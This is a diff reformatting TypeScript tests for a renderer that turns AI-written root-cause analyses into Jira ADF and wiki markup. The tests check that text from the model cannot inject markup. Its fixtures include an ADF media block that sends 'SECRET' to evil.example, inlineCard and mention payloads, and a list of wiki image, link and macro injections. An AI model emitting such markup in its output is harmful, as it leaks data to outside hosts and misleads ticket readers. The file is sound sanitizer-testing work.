@@ -8,7 +8,13 @@ import { fitToLimit } from '../../../../src/render/fit-to-limit.js';
 
 const allowedHosts = new Set(['grafana.example.com', 'lestrade.example.com']);
 const compose = (rca: string) =>
-  composeComment({ rca, issueKey: 'OPS-42', investigationId: 'inv-1', resultsUrl: 'https://lestrade.example.com/api/investigations/inv-1', allowedHosts });
+  composeComment({
+    rca,
+    issueKey: 'OPS-42',
+    investigationId: 'inv-1',
+    resultsUrl: 'https://lestrade.example.com/api/investigations/inv-1',
+    allowedHosts,
+  });
 /** Only the RCA sections, without our heading, preamble and footer. */
 const bare = (sections: string[]): CommentDoc => ({ heading: '', preamble: '', sections, footer: '' });
 
@@ -39,11 +45,21 @@ limits: {memory: 256Mi}
 1. Raise the limit
 2. Alert on OOMKilled`;
 
-type Node = { type: string; text?: string; attrs?: Record<string, unknown>; marks?: { type: string; attrs?: { href?: string } }[]; content?: Node[] };
+type Node = {
+  type: string;
+  text?: string;
+  attrs?: Record<string, unknown>;
+  marks?: { type: string; attrs?: { href?: string } }[];
+  content?: Node[];
+};
 function nodes(content: unknown[]): Node[] {
   return (content as Node[]).flatMap((n) => [n, ...nodes(n.content ?? [])]);
 }
-const linkTargets = (all: Node[]) => all.flatMap((n) => n.marks ?? []).filter((m) => m.type === 'link').map((m) => m.attrs?.href);
+const linkTargets = (all: Node[]) =>
+  all
+    .flatMap((n) => n.marks ?? [])
+    .filter((m) => m.type === 'link')
+    .map((m) => m.attrs?.href);
 
 describe('toAdf', () => {
   it('renders a realistic RCA as a valid ADF document', () => {
@@ -51,20 +67,47 @@ describe('toAdf', () => {
     expect(adf).toMatchObject({ version: 1, type: 'doc' });
     const all = nodes(adf.content);
     const types = new Set(all.map((n) => n.type));
-    expect([...types].sort()).toEqual(['blockquote', 'bulletList', 'codeBlock', 'heading', 'listItem', 'orderedList', 'paragraph', 'rule', 'table', 'tableCell', 'tableHeader', 'tableRow', 'text']);
+    expect([...types].sort()).toEqual([
+      'blockquote',
+      'bulletList',
+      'codeBlock',
+      'heading',
+      'listItem',
+      'orderedList',
+      'paragraph',
+      'rule',
+      'table',
+      'tableCell',
+      'tableHeader',
+      'tableRow',
+      'text',
+    ]);
     expect(all.filter((n) => n.type === 'heading').map((n) => [n.attrs?.level, n.content?.[0]?.text])).toEqual([
-      [3, 'Lestrade — automated root-cause analysis'], [2, 'Alert explanation'], [2, 'Key findings'], [2, 'Root cause'], [2, 'Next steps'],
+      [3, 'Lestrade — automated root-cause analysis'],
+      [2, 'Alert explanation'],
+      [2, 'Key findings'],
+      [2, 'Root cause'],
+      [2, 'Next steps'],
     ]);
     expect(all).toContainEqual({ type: 'text', text: 'checkout', marks: [{ type: 'code' }] });
-    expect(all).toContainEqual({ type: 'codeBlock', attrs: { language: 'yaml' }, content: [{ type: 'text', text: 'limits: {memory: 256Mi}' }] });
+    expect(all).toContainEqual({
+      type: 'codeBlock',
+      attrs: { language: 'yaml' },
+      content: [{ type: 'text', text: 'limits: {memory: 256Mi}' }],
+    });
     // The sanitizer's &lt; must read as "<" in Jira, not as an entity.
     expect(all).toContainEqual({ type: 'text', text: 'Log line with <b>html</b>' });
-    expect(linkTargets(all)).toEqual(['https://grafana.example.com/d/abc', 'https://lestrade.example.com/api/investigations/inv-1']);
+    expect(linkTargets(all)).toEqual([
+      'https://grafana.example.com/d/abc',
+      'https://lestrade.example.com/api/investigations/inv-1',
+    ]);
   });
 
   it('lets no <adf> block from the model through', () => {
-    const media = '{"type":"mediaSingle","attrs":{"layout":"center"},"content":[{"type":"media","attrs":{"type":"external","url":"https://evil.example/?q=SECRET"}}]}';
-    const card = '[{"type":"inlineCard","attrs":{"url":"https://evil.example/c"}},{"type":"mention","attrs":{"id":"1","text":"@boss"}}]';
+    const media =
+      '{"type":"mediaSingle","attrs":{"layout":"center"},"content":[{"type":"media","attrs":{"type":"external","url":"https://evil.example/?q=SECRET"}}]}';
+    const card =
+      '[{"type":"inlineCard","attrs":{"url":"https://evil.example/c"}},{"type":"mention","attrs":{"id":"1","text":"@boss"}}]';
     const rca = `## Root cause\n\n<adf>\n${media}\n</adf>\n\n<adf>${media}</adf>\n\n<ADF>\n${card}\n</ADF>\n\n- item\n\n  <adf>\n  ${media}\n  </adf>`;
     // Without sanitizing, marklassian embeds the model's ADF: this is the attack.
     expect(nodes(markdownToAdf(rca).content).map((n) => n.type)).toContain('mediaSingle');
@@ -76,7 +119,9 @@ describe('toAdf', () => {
   });
 
   it('keeps the ADF rendering within a size limit (property)', () => {
-    const para = fc.array(fc.stringMatching(/^[a-z<>`*]{1,10}$/), { minLength: 1, maxLength: 40 }).map((w) => w.join(' '));
+    const para = fc
+      .array(fc.stringMatching(/^[a-z<>`*]{1,10}$/), { minLength: 1, maxLength: 40 })
+      .map((w) => w.join(' '));
     const render = (d: CommentDoc) => JSON.stringify(toAdf(d));
     fc.assert(
       fc.property(fc.array(para, { minLength: 1, maxLength: 5 }), fc.integer({ min: 0, max: 3000 }), (paras, limit) => {
@@ -105,23 +150,67 @@ describe('adfToPlainText', () => {
             { type: 'text', text: 'deploy 1.4', marks: [{ type: 'strong' }] },
             { type: 'hardBreak' },
             { type: 'text', text: 'see ' },
-            { type: 'text', text: 'dashboard', marks: [{ type: 'link', attrs: { href: 'https://grafana.example.com/d/1' } }] },
+            {
+              type: 'text',
+              text: 'dashboard',
+              marks: [{ type: 'link', attrs: { href: 'https://grafana.example.com/d/1' } }],
+            },
             { type: 'text', text: ' and ' },
             { type: 'inlineCard', attrs: { url: 'https://status.example.com/i/7' } },
           ],
         },
-        { type: 'bulletList', content: [
-          { type: 'listItem', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'p99 > 2s' }] },
-            { type: 'orderedList', attrs: { order: 3 }, content: [{ type: 'listItem', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'since 10:00' }] }] }] }] },
-          { type: 'listItem', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'errors flat' }] }] },
-        ] },
-        { type: 'codeBlock', attrs: { language: 'text' }, content: [{ type: 'text', text: 'GET /cart 504\nGET /cart 200' }] },
+        {
+          type: 'bulletList',
+          content: [
+            {
+              type: 'listItem',
+              content: [
+                { type: 'paragraph', content: [{ type: 'text', text: 'p99 > 2s' }] },
+                {
+                  type: 'orderedList',
+                  attrs: { order: 3 },
+                  content: [
+                    {
+                      type: 'listItem',
+                      content: [{ type: 'paragraph', content: [{ type: 'text', text: 'since 10:00' }] }],
+                    },
+                  ],
+                },
+              ],
+            },
+            { type: 'listItem', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'errors flat' }] }] },
+          ],
+        },
+        {
+          type: 'codeBlock',
+          attrs: { language: 'text' },
+          content: [{ type: 'text', text: 'GET /cart 504\nGET /cart 200' }],
+        },
         { type: 'blockquote', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'customer quote' }] }] },
-        { type: 'table', content: [
-          { type: 'tableRow', content: [{ type: 'tableHeader', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Region' }] }] }, { type: 'tableHeader', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Latency' }] }] }] },
-          { type: 'tableRow', content: [{ type: 'tableCell', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'eu' }] }] }, { type: 'tableCell', content: [{ type: 'paragraph', content: [{ type: 'text', text: '2.1s' }] }] }] },
-        ] },
-        { type: 'panel', attrs: { panelType: 'info' }, content: [{ type: 'paragraph', content: [{ type: 'text', text: 'unknown node keeps its text' }] }] },
+        {
+          type: 'table',
+          content: [
+            {
+              type: 'tableRow',
+              content: [
+                { type: 'tableHeader', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Region' }] }] },
+                { type: 'tableHeader', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Latency' }] }] },
+              ],
+            },
+            {
+              type: 'tableRow',
+              content: [
+                { type: 'tableCell', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'eu' }] }] },
+                { type: 'tableCell', content: [{ type: 'paragraph', content: [{ type: 'text', text: '2.1s' }] }] },
+              ],
+            },
+          ],
+        },
+        {
+          type: 'panel',
+          attrs: { panelType: 'info' },
+          content: [{ type: 'paragraph', content: [{ type: 'text', text: 'unknown node keeps its text' }] }],
+        },
       ],
     };
     expect(adfToPlainText(description)).toBe(
@@ -149,7 +238,12 @@ describe('adfToPlainText', () => {
     expect(adfToPlainText(42)).toBe('');
     expect(adfToPlainText('plain v2 description')).toBe('plain v2 description');
     expect(adfToPlainText({ type: 'doc', content: 'not an array' })).toBe('');
-    expect(adfToPlainText({ type: 'paragraph', content: [null, 7, { type: 'text', text: 5 }, { type: 'text', text: 'ok' }] })).toBe('ok');
+    expect(
+      adfToPlainText({
+        type: 'paragraph',
+        content: [null, 7, { type: 'text', text: 5 }, { type: 'text', text: 'ok' }],
+      }),
+    ).toBe('ok');
     let deep: unknown = { type: 'text', text: 'deep' };
     for (let i = 0; i < 10_000; i++) deep = { type: 'paragraph', content: [deep] };
     expect(() => adfToPlainText(deep)).not.toThrow();
@@ -158,13 +252,15 @@ describe('adfToPlainText', () => {
 
 describe('toWikiMarkup', () => {
   it('renders inline markup, links, lists, tables, quotes and rules', () => {
-    const wiki = toWikiMarkup(bare([
-      '## Root cause\n\n**Bold**, *it*, ~~gone~~, `a.b` and [dash](https://grafana.example.com/d?x=1|2)',
-      '- a\n  - b\n    1. c\n- [x] d',
-      '| A | B |\n|---|---|\n| 1 | x\\|y |\n| 2 | |',
-      '> quoted *text*\n>\n> > nested',
-      '***',
-    ]));
+    const wiki = toWikiMarkup(
+      bare([
+        '## Root cause\n\n**Bold**, *it*, ~~gone~~, `a.b` and [dash](https://grafana.example.com/d?x=1|2)',
+        '- a\n  - b\n    1. c\n- [x] d',
+        '| A | B |\n|---|---|\n| 1 | x\\|y |\n| 2 | |',
+        '> quoted *text*\n>\n> > nested',
+        '***',
+      ]),
+    );
     expect(wiki).toBe(
       [
         'h2. Root cause',
@@ -186,12 +282,16 @@ describe('toWikiMarkup', () => {
   });
 
   it('keeps block macros out of list items, where they would end the list', () => {
-    expect(toWikiMarkup(bare(['- step\n\n  ```\n  !x.png! {code}\n  ```\n\n  > quoted']))).toBe('* step \\\\ {{\\!x.png\\! \\{code\\}}} \\\\ quoted');
+    expect(toWikiMarkup(bare(['- step\n\n  ```\n  !x.png! {code}\n  ```\n\n  > quoted']))).toBe(
+      '* step \\\\ {{\\!x.png\\! \\{code\\}}} \\\\ quoted',
+    );
   });
 
   it('escapes wiki markup in model text so it cannot inject images, links, macros or mentions', () => {
     const wiki = toWikiMarkup(bare(['!evil.png! [click|evil] {color:red}x{color} [~admin] ||t|| a\\b -s- *b* h1. x']));
-    expect(wiki).toBe('\\!evil.png\\! \\[click\\|evil\\] \\{color:red\\}x\\{color\\} \\[\\~admin\\] \\|\\|t\\|\\| a&#92;b \\-s- _b_ h1&#46; x');
+    expect(wiki).toBe(
+      '\\!evil.png\\! \\[click\\|evil\\] \\{color:red\\}x\\{color\\} \\[\\~admin\\] \\|\\|t\\|\\| a&#92;b \\-s- _b_ h1&#46; x',
+    );
     expect(toWikiMarkup(bare(['h1. fake\nbq. fake', '-- not a list', 'root-cause snake_case p99']))).toBe(
       'h1&#46; fake\nbq&#46; fake\n\n\\-\\- not a list\n\nroot-cause snake_case p99',
     );
@@ -199,12 +299,42 @@ describe('toWikiMarkup', () => {
 
   it('lets no model text become wiki markup (property)', () => {
     const fragment = fc.constantFrom(
-      '!http://evil.example/a.png!', '[click|http://evil.example]', '[~admin]', '{color:red}', '{code}', '{noformat}', '{quote}',
-      '{{', '}}', '|', 'h1. ', '\n', '\n\n', '- ', '* ', '> ', '`', '```', '~~', '**', '_', '\\', '[', ']', '!', 'https://evil.example/q', 'www.evil.example', '<b>', '&#123;', '    ',
+      '!http://evil.example/a.png!',
+      '[click|http://evil.example]',
+      '[~admin]',
+      '{color:red}',
+      '{code}',
+      '{noformat}',
+      '{quote}',
+      '{{',
+      '}}',
+      '|',
+      'h1. ',
+      '\n',
+      '\n\n',
+      '- ',
+      '* ',
+      '> ',
+      '`',
+      '```',
+      '~~',
+      '**',
+      '_',
+      '\\',
+      '[',
+      ']',
+      '!',
+      'https://evil.example/q',
+      'www.evil.example',
+      '<b>',
+      '&#123;',
+      '    ',
     );
     fc.assert(
       fc.property(fc.array(fragment, { maxLength: 30 }), (parts) => {
-        const wiki = toWikiMarkup(composeComment({ rca: parts.join(''), issueKey: 'K-1', investigationId: 'i1', allowedHosts: new Set() }));
+        const wiki = toWikiMarkup(
+          composeComment({ rca: parts.join(''), issueKey: 'K-1', investigationId: 'i1', allowedHosts: new Set() }),
+        );
         // Take out our own markup (block macros, monospace delimiters) and escaped characters.
         const rest = wiki
           // A block ends at its own closer: a literal {code} line inside {noformat} is content.
@@ -220,7 +350,9 @@ describe('toWikiMarkup', () => {
 
   it('defuses image and link syntax that reaches it through the sanitizer', () => {
     const wiki = toWikiMarkup(compose('Look !http://evil.example/x.png! and [click|http://evil.example] now'));
-    expect(wiki).toContain('Look \\!{{http&#58;//evil.example/x.png}}\\! and \\[click\\|{{http&#58;//evil.example\\]}} now');
+    expect(wiki).toContain(
+      'Look \\!{{http&#58;//evil.example/x.png}}\\! and \\[click\\|{{http&#58;//evil.example\\]}} now',
+    );
     expect(wiki).not.toMatch(/(^|[^\\])!http/);
     expect(wiki).not.toMatch(/(^|[^\\])\[[^\]]*\|http:\/\/evil/);
   });
